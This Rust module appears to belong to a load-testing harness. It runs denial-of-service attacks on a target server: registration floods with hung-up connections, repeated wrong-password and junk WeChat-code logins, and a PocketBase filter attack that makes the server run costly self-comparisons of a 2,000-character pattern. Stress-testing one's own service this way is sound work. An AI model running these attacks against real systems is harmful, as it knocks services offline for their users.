//! Whole requests that cost the server more than their client.

use std::io;
use std::time::Duration;

use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;

use super::Target;
use super::client::{ATTACKER, connect, crowd};
use crate::load::Requests;
use crate::requests;
use crate::wire::Connection;

const PASSWORD_CLIENTS: usize = 120;
/// Those who register hang up after so long, and come again.
const HANG_UP: Duration = Duration::from_millis(45);
const CODE_CLIENTS: usize = 400;
/// Comparisons of a filter, of a text of so many bytes with itself.
const COMPARISONS: usize = 120;
const TEXT: usize = 2_000;
const FILTER_PAUSE: Duration = Duration::from_millis(500);

/// Registrations of phones that nobody has, whose clients do not wait for the answer.
pub async fn registrations(target: Target) {
    let requests = requests::platform_register();
    let attackers =
        (0..PASSWORD_CLIENTS).map(|_| register_and_go(target.clone(), requests.clone()));
    futures_util::future::join_all(attackers).await;
}

async fn register_and_go(target: Target, requests: Requests) {
    let mut request = Vec::new();
    loop {
        request.clear();
        requests(&mut request);
        if let Ok(mut stream) = connect(ATTACKER, target.address).await {
            let _ = stream.write_all(&request).await;
            tokio::time::sleep(HANG_UP).await;
        }
    }
}

/// Logins with wrong passwords of users that there are.
pub async fn wrong_logins(target: Target) {
    repeat(
        PASSWORD_CLIENTS,
        &target,
        requests::wrong_platform_login(target.users),
    )
    .await;
}

/// Logins with codes that WeChat does not know.
pub async fn junk_codes(target: Target) {
    repeat(CODE_CLIENTS, &target, requests::junk_wechat_login()).await;
}

/// Each client sends the next request when it has the answer to the last one.
async fn repeat(clients: usize, target: &Target, requests: Requests) {
    let target = target.clone();
    crowd(clients, move || {
        exchange_on(target.clone(), requests.clone())
    })
    .await;
}

async fn exchange_on(target: Target, requests: Requests) -> io::Result<()> {
    let mut connection = Connection::new(connect(ATTACKER, target.address).await?)?;
    let mut request = Vec::new();
    loop {
        request.clear();
        requests(&mut request);
        connection.send(&request).await?;
        connection.receive().await?;
    }
}

/// A user who asks for the list of users with a filter that compares a long text with itself many times.
pub async fn filters(target: Target) {
    let mut connection = Connection::new(
        connect(ATTACKER, target.address)
            .await
            .expect("the server listens"),
    )
    .expect("a connection");
    let login = requests::platform_login_of(1);
    let body = ask(&mut connection, &login).await.expect("a login");
    let token = body["token"].as_str().expect("a token").to_owned();
    let id = body["record"]["id"].as_str().expect("an id").to_owned();
    // As a pattern it wants what never comes after so many letters, and looks from each of them.
    let picture = format!("{}\\b", "a".repeat(TEXT));
    let change = json!({ "users_picture": picture }).to_string();
    let update = requests::pocketbase_update(&id, &token, &change);
    let updated = ask(&mut connection, &update).await.expect("an answer");
    assert_eq!(updated["users_picture"], picture.as_str(), "{updated}");
    let filter = vec!["users_picture~users_picture"; COMPARISONS].join("%7C%7C");
    let list = requests::pocketbase_list(&filter, &token);
    crowd(1, move || list_on(target.clone(), list.clone())).await;
}

/// Without a wait for the answer to the last one.
async fn list_on(target: Target, list: Vec<u8>) -> io::Result<()> {
    let mut waiting = Vec::new();
    loop {
        let mut stream = connect(ATTACKER, target.address).await?;
        stream.write_all(&list).await?;
        waiting.push(stream);
        tokio::time::sleep(FILTER_PAUSE).await;
    }
}

async fn ask(connection: &mut Connection, request: &[u8]) -> io::Result<Value> {
    connection.send(request).await?;
    Ok(serde_json::from_slice(connection.receive().await?.body).unwrap_or_default())
}
